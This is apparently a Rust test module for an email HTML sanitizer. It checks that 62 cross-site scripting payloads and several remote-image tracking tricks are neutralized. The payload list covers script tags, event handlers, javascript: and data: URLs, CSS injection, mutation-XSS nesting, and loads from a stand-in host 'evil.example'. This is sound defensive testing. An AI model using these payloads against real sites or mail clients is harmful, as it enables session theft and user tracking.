//! Attacks through HTML, of every family we know, and what must hold for whatever is left of them.

use super::tokens::{Token, attributes, tokens};
use super::{Images, safe_html, tame, text_to_html};

/// Only known tags and attributes, only known addresses, nothing that loads or runs.
#[track_caller]
pub(super) fn harmless(html: &str) {
    for token in tokens(html) {
        let Token::Open(name, raw) = token else { continue };
        assert!(tame::tags().any(|it| it == name), "<{name}> in {html}");
        for (attribute, value) in attributes(raw) {
            let ours = ["rel", "target", tame::WIDTH];
            assert!(
                tame::ATTRIBUTES.contains(&attribute.as_str()) || ours.contains(&attribute.as_str()),
                "{attribute} in {html}"
            );
            let value = value.replace("&amp;", "&").to_lowercase();
            match attribute.as_str() {
                "href" => assert!(
                    ["http", "mailto:", "tel:"].iter().any(|it| value.trim().starts_with(it)),
                    "{value} in {html}"
                ),
                "src" | "background" => {
                    assert!(
                        ["http", "data:image/", "/"].iter().any(|it| value.starts_with(it)),
                        "{value} in {html}"
                    );
                    assert!(!value.contains("svg"), "{value} in {html}");
                }
                "style" => {
                    let bad =
                        ["expression", "javascript", "import", "behavior", "binding", "\\", "/*", "<", "{"];
                    assert!(!bad.iter().any(|it| value.contains(it)), "{value} in {html}");
                }
                _ => {}
            }
        }
    }
}

const ATTACKS: [&str; 62] = [
    // Scripts, open and hidden.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<\0script>alert(1)</script>",
    "</p><script>alert(1)//",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Event attributes.
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<b onmouseover\n=\talert(1)>x</b>",
    "<body onload=alert(1)>",
    "<a href=https://x.example autofocus onfocus=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img alt=\"`><script>alert(1)</script>\">",
    // Addresses that run.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\nascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script&colon;alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"view-source:file:///etc/passwd\">x</a>",
    "<a href=//evil.example/>x</a>",
    "<a href=/logout>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:text/html,x\">",
    "<img src=/mail/delete?id=1>",
    "<table background=javascript:alert(1)><td background=\"vbscript:x\">x",
    // Styles.
    "<p style=\"width:expression(alert(1))\">x",
    "<p style=\"background:url(javascript:alert(1))\">x",
    "<p style=\"background:url('javascript:alert(1)')\">x",
    "<p style=\"color:red;behavior:url(x.htc);-moz-binding:url(x.xml#x)\">x",
    "<p style=\"b\\61 ckground:\\75rl(//evil.example)\">x",
    "<p style=\"color:red}*{background:url(//evil.example)\">x",
    "<p style='background:url(\"https://x/&quot;);behavior:url(x)')>x",
    "<style>@import url(//evil.example/x.css);</style>x",
    "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    // Frames, forms, redirection.
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button><input type=image src=//evil.example/>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<video poster=javascript:alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<img srcset=\"javascript:alert(1) 1x, x 2x\" sizes=1>",
    "<a href=https://x.example ping=//evil.example/ target=_top>x</a>",
    // Other languages inside of HTML, and trees that change when they are read again.
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><animate attributeName=href values=javascript:alert(1) /></a>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template><select><template><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea><xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
];

#[test]
fn no_attack_survives() {
    for attack in ATTACKS {
        for images in [Images::Blocked, Images::Allowed] {
            let safe = safe_html(attack, images, &|_| Some("/own\"><script>".to_owned())).html;
            harmless(&safe);
            assert!(!safe.contains("evil.example") || images == Images::Allowed, "{safe}");
            // Reading it again must not bring anything back.
            harmless(&safe_html(&safe, images, &|_| None).html);
        }
        harmless(&text_to_html(attack));
    }
}

#[test]
fn the_urls_of_our_own_cannot_break_out_either() {
    let safe = safe_html("<img src='cid:\"><script>'>", Images::Blocked, &|id| Some(format!("/part?{id}")));
    assert_eq!(safe.html, "<img src=\"/part?&quot;&gt;&lt;script&gt;\">");
}

#[test]
fn no_foreign_server_hears_of_a_reading() {
    let html = "<img src=https://evil.example/1><img src=//evil.example/2><img srcset=https://evil.example/3>\
                <table background=https://evil.example/4><tr><td style=\"background-image:url(https://evil.example/5)\">\
                <p style=\"background:#fff url('//evil.example/6')\"><img src=\" HTTPS://evil.example/7\"><img src=cid:x>";
    let safe = safe_html(html, Images::Blocked, &|_| Some("/part/1".to_owned()));
    assert!(!safe.html.contains("evil.example"), "{}", safe.html);
    assert_eq!(safe.blocked_images, 7);
    assert!(safe.html.contains("src=\"/part/1\""));
}
